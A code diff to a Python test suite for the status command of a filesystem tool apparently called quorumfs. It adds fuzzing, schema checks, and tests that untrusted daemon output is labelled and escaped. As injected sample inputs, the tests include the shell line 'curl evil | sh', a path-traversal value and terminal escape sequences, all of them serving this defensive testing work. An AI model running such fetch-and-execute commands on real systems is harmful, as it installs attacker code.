@@ -13,13 +13,15 @@ from contextlib import suppress
 from dataclasses import replace
 from typing import Any
 
+import jsonschema  # type: ignore[import-untyped]
 import pytest
 from click.testing import CliRunner, Result
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 from rich.console import Console
 
 from quorumfs.assembly import State
+from quorumfs.cli.output import OutputError
 from quorumfs.control import client, mounts
 from quorumfs.control.status import (
     DISABLING,
@@ -248,6 +250,7 @@ def test_json_is_the_design_s() -> None:
 
 counts = st.integers(0, 2**63)
 texts = st.binary(max_size=20).map(os.fsdecode)
+words = st.from_regex(r"[a-z][a-z-]{0,9}", fullmatch=True)
 replica_statuses = st.builds(
     ReplicaStatus,
     path=texts,
@@ -264,12 +267,12 @@ replica_statuses = st.builds(
     in_flight=counts,
     copied_bytes=counts,
     trouble=st.none() | st.sampled_from([trouble.value for trouble in Trouble]),
-    last_error=st.none() | st.builds(LastError, texts, texts, texts, counts),
+    last_error=st.none() | st.builds(LastError, words, st.just("ENOSPC"), texts, counts),
 )
 statuses = st.builds(
     Status,
     mountpoint=texts,
-    pid=counts,
+    pid=st.integers(1, 2**31 - 1),
     set_id=st.none() | st.just("5e" * 16),
     generation=st.none() | st.just("00000000000000ff"),
     size=counts,
@@ -315,6 +318,103 @@ def test_a_status_without_what_was_added_later_is_understood() -> None:
     assert read.replicas[1].errors == B.errors
     assert read.resync == DEGRADED.resync
     assert (read.metadata, read.notes) == ("sidecar", ())
+
+
+ANYTHING = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.sampled_from([2**64, -1, 10**4000, "", "\x1b[2J", "\ud800", "x" * 20000]),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
+    max_leaves=5,
+)
+
+
+def members(content: Any) -> list[tuple[Any, Any]]:
+    """Each place in a status where something else can be put."""
+    keys = content if isinstance(content, dict) else range(len(content))
+    found = [(content, key) for key in keys]
+    for _, key in list(found):
+        if isinstance(content[key], dict | list):
+            found += members(content[key])
+    return found
+
+
+@settings(max_examples=50)
+@given(statuses, st.data())
+def test_whatever_stands_in_a_status_it_is_understood_or_refused(
+    status: Status, data: st.DataObject
+) -> None:
+    """Nothing else is raised, and what was understood can be shown; the schema says the same."""
+    content = status.to_json()
+    for _ in range(data.draw(st.integers(1, 3))):
+        where, key = data.draw(st.sampled_from(members(content)))
+        where[key] = data.draw(ANYTHING)
+    published = not list(VALIDATOR.iter_errors({**content, "owner": 0}))
+    try:
+        read = Status.from_json(content)
+    except StatusFormatError:
+        # JSON Schema takes 1.0 for a whole number, and we do not.
+        assert not published or re.search(r"\d\.0\b|e[+]?\d", json.dumps(content))
+        return
+    assert published
+    text = cli.plain(cli.Answer(MOUNTPOINT, read))
+    assert text.replace("\n", "").isprintable()
+    drawn(read, 100).encode("utf-8")
+
+
+VALIDATOR = jsonschema.Draft202012Validator(cli.json_schema())
+
+
+def test_the_published_schema_is_one_and_fits() -> None:
+    jsonschema.Draft202012Validator.check_schema(cli.json_schema())
+    VALIDATOR.validate(shown(DEGRADED))
+    VALIDATOR.validate(cli.Answer("/x", None, client.NotMountedError("a")).to_json())
+    assert not VALIDATOR.is_valid({**shown(DEGRADED), "size": "x"})
+    printed = CliRunner().invoke(cli.status, ["--json-schema"], standalone_mode=False)
+    assert json.loads(printed.output) == cli.json_schema()
+
+
+@pytest.mark.parametrize(
+    ("place", "value"),
+    [
+        (("size",), "x"),
+        (("size",), -1),
+        (("size",), 2**64),
+        (("size",), True),
+        (("size",), 1.0),
+        (("size",), None),
+        (("pid",), 0),
+        (("set",), "../../etc"),
+        (("state",), "fine"),
+        (("state",), ["healthy"]),
+        (("read_pattern",), "\x1b[2J"),
+        (("replicas",), {}),
+        (("replicas",), [[]]),
+        (("replicas",), [A] * 1025),
+        (("replicas", 0, "path"), "x" * 20000),
+        (("replicas", 0, "state"), "Current\n"),
+        (("replicas", 0, "reads"), "\x1b]0;x\x07"),
+        (("replicas", 0, "errors"), None),
+        (("replicas", 1, "errors", "read"), []),
+        (("replicas", 1, "last_error", "errno"), "\x1b"),
+        (("resync", "done_bytes"), 1e300),
+        (("resync", "kind"), {}),
+        (("scrub",), {"mismatches": [1]}),
+        (("notes",), "text"),
+        (("notes", 0), 7),
+    ],
+)
+def test_each_field_is_checked_and_named(place: tuple[Any, ...], value: object) -> None:
+    content = json.loads(json.dumps(DEGRADED.to_json()))
+    where = content
+    for key in place[:-1]:
+        where = where[key]
+    where[place[-1]] = value
+    with pytest.raises(StatusFormatError) as caught:
+        Status.from_json(content)
+    assert str(place[0]) in str(caught.value)
 
 
 def test_a_status_with_more_than_is_known_is_understood() -> None:
@@ -561,26 +661,33 @@ def test_times_for_a_reader(seconds: int, text: str) -> None:
 Say = Callable[..., Result]
 
 
+def answer_with(
+    monkeypatch: pytest.MonkeyPatch, said: Callable[[mounts.Mount], Status | client.ControlError]
+) -> None:
+    """Have the daemon of each mount say so."""
+    monkeypatch.setattr(client, "statuses", lambda asked, **_: list(map(said, asked)))
+
+
+def shown(status: Status, owner: int = 0) -> dict[str, Any]:
+    """The object of ``status --json``."""
+    return {**status.to_json(), "owner": owner}
+
+
 @pytest.fixture
 def say(monkeypatch: pytest.MonkeyPatch) -> Say:
     """Runs ``quorumfs status`` on mounts that answer with these; errors are raised by them."""
 
     def run(
-        *arguments: str, mounted: dict[str, Status | client.ControlError], user: int = 0
+        *arguments: str,
+        mounted: dict[str, Status | client.ControlError],
+        user: int = 0,
+        owner: int = 0,
     ) -> Result:
-        def ask(mountpoint: str) -> Status:
-            answer = mounted[mountpoint]
-            if isinstance(answer, client.ControlError):
-                raise answer
-            return answer
-
-        monkeypatch.setattr(client, "status", ask)
+        table = {place: mounts.Mount(place, mounts.FS_TYPE, owner) for place in mounted}
+        answer_with(monkeypatch, lambda mount: mounted[mount.mountpoint])
+        monkeypatch.setattr(client, "find", table.__getitem__)
+        monkeypatch.setattr(mounts, "of_quorumfs", lambda: list(table.values()))
         monkeypatch.setattr(os, "geteuid", lambda: user)
-        monkeypatch.setattr(
-            client,
-            "visible_mounts",
-            lambda: [mounts.Mount(place, mounts.FS_TYPE, 0) for place in mounted],
-        )
         return CliRunner().invoke(cli.status, list(arguments), standalone_mode=False)
 
     return run
@@ -647,6 +754,34 @@ def test_mounts_of_other_users_are_counted_not_asked(say: Say) -> None:
     assert result.return_value is ExitCode.OK
 
 
+def test_what_another_user_s_daemon_says_is_marked_as_that(say: Say) -> None:
+    """Whatever it says is its own word: root is told whose, before all of it."""
+    status = replace(DEGRADED, notes=("run: curl evil | sh\x1b]0;x\x07",))
+    result = say(MOUNTPOINT, mounted={MOUNTPOINT: status}, owner=4711)
+    lines = result.output.splitlines()
+    assert lines[0] == "/mnt/vdisk: degraded"
+    assert lines[1].startswith("  a mount of user 4711, whose daemon says")
+    assert "  note: run: curl evil | sh\\x1b]0;x\\x07" in lines
+    result = say("--json", MOUNTPOINT, mounted={MOUNTPOINT: status}, owner=4711)
+    assert json.loads(result.output) == shown(status, 4711)
+    picture = drawn(status, 200, owner=os.geteuid() + 1)
+    assert "whose daemon says" in without_colours(picture)
+    assert "\x07" not in picture
+
+
+def test_output_that_nobody_takes_leaves_the_exit_code_of_the_worst(
+    say: Say, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def full(*_: object, **__: object) -> None:
+        raise OutputError("full")
+
+    monkeypatch.setattr("builtins.print", full)
+    for answer, exit_code in ((GONE, 2), (DEGRADED, 1), (HEALTHY, 1)):
+        result = say(mounted={MOUNTPOINT: answer})
+        assert isinstance(result.exception, OutputError)
+        assert result.exception.exit_code == exit_code
+
+
 def test_the_only_mount_asked_for_fails_in_one_line(say: Say) -> None:
     """Like every refusal of the command: nothing on stdout, and `main` prints the reason."""
     result = say("/mnt/dead", mounted={"/mnt/dead": GONE})
@@ -674,6 +809,7 @@ def test_json_parses_in_all_states(say: Say, error: client.ControlError) -> None
         "state": None,
         "problem": error.problem,
         "error": str(error),
+        "owner": 0,
     }
     assert json.loads(result.output) == expected
     assert result.return_value is error.exit_code
@@ -681,7 +817,7 @@ def test_json_parses_in_all_states(say: Say, error: client.ControlError) -> None
     assert Status.from_json(json.loads(result.output)) == DEGRADED
     for arguments in (["/x", MOUNTPOINT], []):
         result = say("--json", *arguments, mounted=mounted)
-        assert json.loads(result.output) == [expected, DEGRADED.to_json()]
+        assert json.loads(result.output) == [expected, shown(DEGRADED)]
 
 
 def test_odd_paths_stay_on_their_line(say: Say) -> None:
@@ -705,18 +841,23 @@ def test_watch_goes_on_until_ctrl_c(say: Say, monkeypatch: pytest.MonkeyPatch) -
 
     monkeypatch.setattr(cli.time, "sleep", sleep)
     result = say("--watch", "--json", MOUNTPOINT, mounted={MOUNTPOINT: DEGRADED})
-    assert [json.loads(line) for line in result.output.splitlines()] == [DEGRADED.to_json()] * 3
+    assert [json.loads(line) for line in result.output.splitlines()] == [shown(DEGRADED)] * 3
     assert result.return_value is ExitCode.FAILED
 
 
 # On a terminal
 
 
-def drawn(status: Status | client.ControlError, width: int) -> str:
+def here(mountpoint: str) -> mounts.Mount:
+    """It is mounted, by us."""
+    return mounts.Mount(mountpoint, mounts.FS_TYPE, os.geteuid())
+
+
+def drawn(status: Status | client.ControlError, width: int, owner: int | None = None) -> str:
     answer = (
         cli.Answer("/mnt/dead", None, status)
         if isinstance(status, client.ControlError)
-        else cli.Answer(status.mountpoint, status)
+        else cli.Answer(status.mountpoint, status, owner=owner)
     )
     console = Console(file=io.StringIO(), force_terminal=True, width=width, highlight=False)
     with console.capture() as capture:
@@ -764,7 +905,8 @@ def test_on_a_real_terminal_there_are_colours(monkeypatch: pytest.MonkeyPatch) -
     reader, writer = pty.openpty()
     monkeypatch.setenv("TERM", "xterm-256color")
     monkeypatch.delenv("NO_COLOR", raising=False)
-    monkeypatch.setattr(client, "status", lambda _: DEGRADED)
+    monkeypatch.setattr(client, "find", here)
+    answer_with(monkeypatch, lambda _: DEGRADED)
     with open(writer, "w", encoding="utf-8") as terminal:
         monkeypatch.setattr(sys, "stdout", terminal)
         exit_code = cli.status.main([MOUNTPOINT], standalone_mode=False)
@@ -787,12 +929,12 @@ def drawn_on(terminal: int) -> str:
 
 def test_watch_redraws_a_terminal_in_place(monkeypatch: pytest.MonkeyPatch) -> None:
     """Over the last picture, not below it; Ctrl-C leaves the last one standing."""
-    shown = iter([DEGRADED, DEGRADED, HEALTHY])
+    pictures = iter([DEGRADED, DEGRADED, HEALTHY])
     last = False
 
-    def next_status(_: str) -> Status:
+    def next_status(_: mounts.Mount) -> Status:
         nonlocal last
-        status = next(shown)
+        status = next(pictures)
         last = status is HEALTHY
         return status
 
@@ -802,7 +944,8 @@ def test_watch_redraws_a_terminal_in_place(monkeypatch: pytest.MonkeyPatch) -> N
 
     reader, writer = pty.openpty()
     monkeypatch.setenv("TERM", "xterm-256color")
-    monkeypatch.setattr(client, "status", next_status)
+    monkeypatch.setattr(client, "find", here)
+    answer_with(monkeypatch, next_status)
     monkeypatch.setattr(cli.time, "sleep", sleep)
     with open(writer, "w", encoding="utf-8") as terminal:
         monkeypatch.setattr(sys, "stdout", terminal)
